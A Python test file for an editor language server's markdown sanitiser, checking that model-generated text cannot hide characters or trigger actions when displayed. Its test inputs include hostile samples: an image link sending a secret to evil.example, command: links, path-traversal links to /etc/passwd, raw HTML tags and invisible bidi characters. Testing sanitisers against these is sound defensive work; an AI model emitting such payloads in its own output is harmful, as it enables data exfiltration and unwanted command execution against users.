"""SEC-19: model text hides nothing and does nothing when it is shown."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from outpost_lsp.domain.markdown import one_line, plain, safe_markdown, visible


@pytest.mark.parametrize(
    "text",
    [
        "a\u202eb",
        "a\U000e0041b",
        "a\x1b[31mb",
        "a\u2066b",
        "a\u200bb",
        "a\x00b",
        "a\ufeffb",
        "a\u2028b",
        "a\U000e0100b",
    ],
)
def test_SEC_19_hidden_characters_are_shown_as_numbers(text):
    assert visible(text) == f"a\\u{{{ord(text[1]):04X}}}{text[2:]}"


def test_letters_emoji_and_layout_stay_as_they_are():
    text = "漢字 é 👩\u200d💻 עברית\n\tx"
    assert visible(text) == text


def test_line_ends_become_line_feeds():
    assert visible("a\r\nb\rc") == "a\nb\nc"


def test_a_title_is_one_line_of_bounded_length():
    assert one_line("  a\n\nb\tc ") == "a b c"
    assert len(one_line("x" * 1000)) == 200


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("![x](https://evil.example/?q=secret)", "\\!\\[x](https://evil.example/?q=secret)"),
        ("[run](command:workbench.action)", "[run]\\(command:workbench.action)"),
        ("[run](COMMAND:x)", "[run]\\(COMMAND:x)"),
        ("[run](&#99;ommand:x)", "[run]\\(&#99;ommand:x)"),
        ("[run](command\\:x)", "[run]\\(command\\:x)"),
        ("[run]( \n<command:x>)", "[run]\\( \n\\<command:x>)"),
        ("[up](../../etc/passwd)", "[up]\\(../../etc/passwd)"),
        ("[abs](/etc/passwd)", "[abs]\\(/etc/passwd)"),
        ("[host](//evil.example)", "[host]\\(//evil.example)"),
        ("[id]: command:x", "[id]\\: command:x"),
        ("<img src=x>", "\\<img src=x>"),
        ("\\\\<img src=x>", "\\\\\\<img src=x>"),
        ("<!-- x", "\\<!-- x"),
        ("</b>", "\\</b>"),
        ("see http://evil.example", "see http:\\//evil.example"),
        ("see www.evil.example", "see www\\.evil.example"),
        ("a@b.example", "a\\@b.example"),
    ],
)
def test_SEC_19_what_would_act_or_load_is_left_as_words(text, safe):
    assert safe_markdown(text) == safe


@pytest.mark.parametrize(
    "text",
    [
        "**bold** and `List<String>` and [docs](https://docs.example/x) and [file](src/a.py#L3) and [at](src/a.py:3)",
        "```html\n<img src=x>\n![a](b)\n```\nafter a < b && c > d",
        "~~~\n<b>\n~~~",
        "`` a ` <b> `` and `x[0](y)`",
        "1 < 2, x<3",
    ],
)
def test_formatting_code_and_good_links_stay(text):
    assert safe_markdown(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "x ` y\n` <img> `",
        "# a ` <img>\n`",
        "| ` | <img> ` |",
        "- a\n  ```\n<img>",
        "``` a`b\n<img>",
        "    ```\n<img>",
        "```\ncode\n```\n<img>",
        "- ```\n<img>",
    ],
)
def test_SEC_19_code_that_another_parser_may_not_see_hides_no_html(text):
    assert re.search(r"(?<!\\)<img>", safe_markdown(text)) is None


PIECES = st.sampled_from(
    [
        "<",
        "img",
        ">",
        "`",
        "```",
        "\n",
        "[",
        "]",
        "(",
        ")",
        "!",
        ":",
        "\\",
        "command:",
        "https://",
        "|",
        " ",
        "a",
        "\u202e",
        "~~~",
    ]
)


@given(st.lists(PIECES, max_size=25).map("".join))
def test_making_text_safe_twice_changes_nothing_more(text):
    once = safe_markdown(text)
    assert safe_markdown(once) == once
    assert visible(once) == once


@given(st.lists(PIECES, max_size=25).map("".join))
def test_SEC_19_outside_code_no_tag_or_command_link_is_left(text):
    prose = re.sub(r"(?ms)^(```[^`\n]*|~~~[^\n]*)$.*?(^\1[ \t]*$|\Z)", "", safe_markdown(text))
    for line in prose.split("\n"):
        if "`" not in line:
            assert re.search(r"(?<!\\)(?:\\\\)*<[A-Za-z/!?]", line) is None or "~" in prose
            assert "](command:" not in line or "~" in prose


def test_a_character_reference_does_not_bring_back_what_was_hidden() -> None:
    for hidden in ("&#x202e;", "&#8238;", "&rlm;", "&#xE0041;"):
        shown = safe_markdown(f"a {hidden} b")
        assert shown == f"a \\{hidden} b"
        assert safe_markdown(shown) == shown
    assert safe_markdown("`&rlm;` a && b & c") == "`&rlm;` a && b & c"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Use `a*b` and <b>", "Use `a*b` and <b>"),
        ("see www.example.org or http://x.y, me@x.org", "see www.example.org or http://x.y, me@x.org"),
        ("![picture](x.png) and [link](javascript:x)", "![picture](x.png) and [link](javascript:x)"),
        ("**Bold** (`code`) and 2 ** 3 ** 4", "Bold (`code`) and 2 ** 3 ** 4"),
        ("```\na \\* b **c**\n```\n\\*d\\*", "```\na \\* b **c**\n```\n*d*"),
        ("a ` b <i>", "a ` b <i>"),
        ("C:\\Users", "C:\\Users"),
    ],
)
def test_plain_text_has_neither_escapes_nor_bold_marks(text: str, shown: str) -> None:
    assert plain(safe_markdown(text)) == shown


def test_plain_text_hides_nothing() -> None:
    assert plain("a\u202eb") == "a\\u{202E}b"
